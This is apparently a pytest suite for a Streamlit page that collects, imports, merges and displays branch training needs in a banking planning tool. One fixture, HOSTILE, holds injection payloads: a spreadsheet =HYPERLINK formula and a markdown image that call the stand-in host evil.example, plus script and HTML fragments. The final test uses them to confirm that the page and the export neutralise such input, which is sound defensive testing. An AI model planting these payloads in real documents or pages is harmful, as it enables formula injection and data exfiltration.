"""The page of needs: asking, filing, pasting, merging, and what each role sees of it."""

from __future__ import annotations

import io
from dataclasses import replace
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from core.access.actor import Actor
from core.exports.needs import needs_workbook
from core.goals.needs import calls
from core.goals.needs.draft import NeedDraft
from core.goals.needs.terms import NeedState
from core.instance import Instance
from core.people.tables import Post
from core.strategy.themes import service as themes
from tests.core.goals.needs.world import AFTERCARE, LAUNDERING, SWINGS, Asking, asking, begin, board, file, in_charge, link, look
from tests.core.strategy.ideas_world import standing
from tests.pages.conftest import Visit, works_on
from tests.pages.words import labels, press, words

PAGE = "goals/needs.py"
HOSTILE = NeedDraft('=HYPERLINK("http://evil.example")', "<b>柜员</b>", 3, "![x](http://evil.example/?d=1) <script>", "[链接](http://evil)")


@pytest.fixture
def world(house: Instance, leader: Actor) -> Asking:
    made = asking(house, leader)
    with house.database.writing() as db:
        db.add(Post(name="理财经理"))
    works_on(house, leader, made.plan)
    return made


def part(at: AppTest, value: str) -> AppTest:
    next(one for one in at.get("button_group") if one.key == "needs_part").set_value(value)
    return at.run()


def fill(at: AppTest, prefix: str, **values: str) -> AppTest:
    for name, value in values.items():
        next(one for one in (*at.text_area, *at.text_input, *at.selectbox) if (one.key or "").endswith(f"{prefix}_{name}")).set_value(value)
    return at


def test_an_empty_plan_begins_a_round_and_shows_its_links_once(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    at = visit(leader, PAGE)
    assert "不用账号就能填" in words(at)
    at = press(at, "开始征集")
    assert {one.row.unit for one in look(house, leader, world.plan).units} == {"滨海分行", "云岭支行", "望海支行"}
    at = part(at, "round")
    assert "0 / 3 个机构已回答" in words(at) and "还有 14 天" in words(at)
    at = press(at, "生成 3 个链接")
    assert "链接只显示这一次" in words(at) and "下载链接和要发的话" in labels(at, "download_button")
    assert all(one.has_link for one in look(house, leader, world.plan).units)
    assert "链接只显示这一次" not in words(press(at, "已保存，收起"))
    at = press(at, "提醒 3 个机构")
    assert "3 个机构没有负责人账号，只记下了时间" in words(at) and "登在对方的" not in words(at) and "提醒记录（3）" in words(at)
    at = press(at, "作废 3 个链接")
    assert not any(one.has_link for one in look(house, leader, world.plan).units)
    press(at, "现在结束征集")
    assert not look(house, leader, world.plan).open


def test_a_manager_is_reminded_at_home_files_and_sees_their_own_unit_alone(
    house: Instance, leader: Actor, manager: Actor, world: Asking, visit: Visit
) -> None:
    works_on(house, manager, world.plan)
    assert "您还没有负责的机构" in words(visit(manager, PAGE))
    in_charge(house, leader, manager, world.branch)
    begin(house, leader, world)
    file(house, leader, world.plan, "云岭支行", LAUNDERING)
    call = look(house, leader, world.plan)
    with house.database.writing() as db:
        calls.nudge(db, leader, call.id, [one.id for one in call.units])
    home = words(visit(manager, ""))
    assert "望海支行还没有报培训需求" in home and "提醒过您" in home and "云岭支行" not in home
    at = visit(manager, PAGE)
    assert LAUNDERING.problem not in words(at) and "归并（" not in words(at)
    at = press(fill(at, "need_new_0", problem=SWINGS.problem, post="理财经理"), "提交需求")
    (view,) = board(house, manager, world.plan).needs
    assert view.row.unit == "望海支行" and SWINGS.problem in words(at)
    assert "还没有报培训需求" not in words(visit(manager, ""))


def test_a_manager_says_that_a_unit_needs_nothing(house: Instance, leader: Actor, manager: Actor, world: Asking, visit: Visit) -> None:
    works_on(house, manager, world.plan)
    in_charge(house, leader, manager, world.branch)
    begin(house, leader, world)
    at = press(part(visit(manager, PAGE), "round"), "望海支行：今年没有需求")
    assert look(house, manager, world.plan).silent == () and "望海支行：还是有需求" in labels(at, "button")


def test_alike_needs_are_merged_into_a_project_that_leads_back_to_them(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    for unit, draft in (("望海支行", SWINGS), ("云岭支行", AFTERCARE), ("云岭支行", LAUNDERING)):
        file(house, leader, world.plan, unit, draft)
    assert "3 条需求待归并" in words(visit(leader, ""))
    at = part(visit(leader, PAGE), "merge")
    assert "读起来相近" in words(at) and "多数都提到" in words(at) and SWINGS.problem in words(at) and LAUNDERING.problem not in words(at)
    at = press(at, "归并这 2 条")
    assert "归并 2 条需求" in words(at)
    next(one for one in at.selectbox if one.label == "战略主题").select(world.ripe.retail).run()
    purpose = next(one for one in at.text_area if one.label.startswith("培训目的"))
    assert purpose.value.startswith("落实“")
    at = press(at, "成为项目")
    assert "去写“理财经理 · 资产配置”的目标" in labels(at, "page_link")
    (project,) = standing(house, leader, world.plan)
    assert project.row.name == "理财经理 · 资产配置" and project.row.people == 35
    assert board(house, leader, world.plan).merged == 2
    goal = words(visit(leader, "goals/goals.py", project=project.id))
    assert "来自 2 条需求" in goal and SWINGS.problem in goal and "云岭支行" in goal
    at = visit(leader, PAGE, project=project.id)
    assert "只列项目" in words(at) and any(project.row.name in label for label in labels(at, "page_link"))
    press(at, "撤销上一步")
    assert board(house, leader, world.plan).waiting == 3 and not standing(house, leader, world.plan)


def test_needs_join_a_project_that_stands(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    file(house, leader, world.plan, "望海支行", SWINGS)
    at = press(part(visit(leader, PAGE), "list"), "归并")
    at = press(at, "成为项目")
    file(house, leader, world.plan, "云岭支行", LAUNDERING)
    at = press(visit(leader, PAGE), "归并")
    next(one for one in at.get("button_group") if one.key == "merge_way").set_value("old")
    at.run()
    (project,) = standing(house, leader, world.plan)
    next(one for one in at.selectbox if one.label == "项目").select(project.id).run()
    press(at, "并入这个项目")
    assert board(house, leader, world.plan).merged == 2 and len(standing(house, leader, world.plan)) == 1


def test_a_theme_without_a_clause_says_what_to_do(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    file(house, leader, world.plan, "望海支行", SWINGS)
    with house.database.writing() as db:
        for view in themes.overview(db, leader, world.plan).themes:
            themes.remove(db, leader, view.id)
    at = press(visit(leader, PAGE), "归并")
    assert "请先归主题，或并入已有的项目" in words(at) and "去归主题" in labels(at, "page_link") and "成为项目" not in labels(at, "button")


def test_a_need_is_corrected_put_aside_and_brought_back(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    file(house, leader, world.plan, "望海支行", SWINGS)
    at = visit(leader, PAGE)
    at = press(fill(at, "_1", problem="理财经理不敢谈亏损"), "保存")
    assert board(house, leader, world.plan).needs[0].row.problem == "理财经理不敢谈亏损"
    next(one for one in at.text_input if one.label == "搁置的理由").set_value("今年已有同类项目").run()
    at = press(at, "确定搁置")
    assert "搁置的理由：今年已有同类项目" in words(at)
    press(at, "取回")
    assert board(house, leader, world.plan).needs[0].state is NeedState.FILED


def test_rows_are_pasted_with_the_refused_ones_named(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    file(house, leader, world.plan, "望海支行", SWINGS)
    at = visit(leader, PAGE)
    rows = (
        "机构\t问题\t岗位\t人数\n云岭支行\t漏报可疑交易\t运营主管\t6\n金融市场部\t不会看估值\t交易员\t几个\n新设支行\t没有人会开户\t柜员\t"
    )
    next(one for one in at.text_area if one.label == "粘贴到这里").set_value(rows).run()
    assert "1 行不能用" in words(at) and "新设支行" in words(at)
    press(at, "提交 2 条")
    assert {view.row.unit for view in board(house, leader, world.plan).needs} == {"望海支行", "云岭支行", "新设支行"}


def test_a_file_is_looked_at_filed_and_taken_back_as_one(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    file(house, leader, world.plan, "望海支行", SWINGS)
    with house.database.writing() as db:
        db.add(Post(name="运营主管"))
    at = visit(leader, PAGE)
    content = "机构,问题,岗位,人数\n云岭支行,漏报可疑交易,运营主管,6\n云岭支行,不会看估值,交易员,几个\n望海支行,没有人会开户,临柜,3\n"
    at.file_uploader[0].upload("需求.csv", content.encode("gb18030"))
    at.run()
    assert "1 行不能用" in words(at) and "岗位库里没有这些岗位，照写的登记：临柜" in words(at)
    at = press(at, "提交 2 条")
    assert [view.row.post for view in board(house, leader, world.plan).needs] == ["临柜", "运营主管", "理财经理"]
    assert "岗位库里没有这个名称的岗位" in words(at) and "运营主管" in next(one for one in at.selectbox if one.label == "岗位").options
    press(at, "撤销上一步")
    assert [view.row.post for view in board(house, leader, world.plan).needs] == ["理财经理"]


def test_an_executive_reads_numbers_and_no_words(house: Instance, leader: Actor, executive: Actor, world: Asking, visit: Visit) -> None:
    works_on(house, executive, world.plan)
    begin(house, leader, world)
    file(house, leader, world.plan, "望海支行", SWINGS)
    for language, said in (("zh", "这里只有数目"), ("en", "numbers alone")):
        shown = words(visit(executive, PAGE, language))
        assert said in shown and SWINGS.problem not in shown and SWINGS.behaviour not in shown


def test_the_page_is_whole_in_english(house: Instance, leader: Actor, world: Asking, visit: Visit) -> None:
    begin(house, leader, world)
    file(house, leader, world.plan, "望海支行", replace(SWINGS, level=2, quarter=1))
    link(house, leader, world.plan, "云岭支行")
    parts = next(one for one in visit(leader, PAGE, "en").get("button_group") if one.key == "needs_part")
    assert [one.content for one in parts.proto.options] == ["Needs (1)", "Who has not filed (1)", "Merge (1 waiting)"]
    for wanted, said in (("list", "Filed by"), ("round", "of 2 units have answered"), ("merge", "none read alike")):
        assert said in words(part(visit(leader, PAGE, "en"), wanted)), wanted


def test_hostile_words_of_a_need_do_nothing_on_the_page_and_in_the_export(
    house: Instance, leader: Actor, world: Asking, visit: Visit
) -> None:
    for unit in ("望海支行", "云岭支行"):
        file(house, leader, world.plan, unit, HOSTILE)
    at = visit(leader, PAGE)
    shown = "\n".join(one.value for one in at.markdown)
    assert "![x](" not in shown and "[链接](" not in shown
    merged = part(at, "merge")
    assert not any("[链接](" in label for label in [one.label for one in merged.checkbox] + [one.value for one in merged.markdown])
    sheet = load_workbook(io.BytesIO(needs_workbook(board(house, leader, world.plan).needs, "zh", ZoneInfo("Asia/Shanghai")))).active
    assert sheet is not None and sheet["B2"].value == HOSTILE.problem and sheet["B2"].data_type == "s"
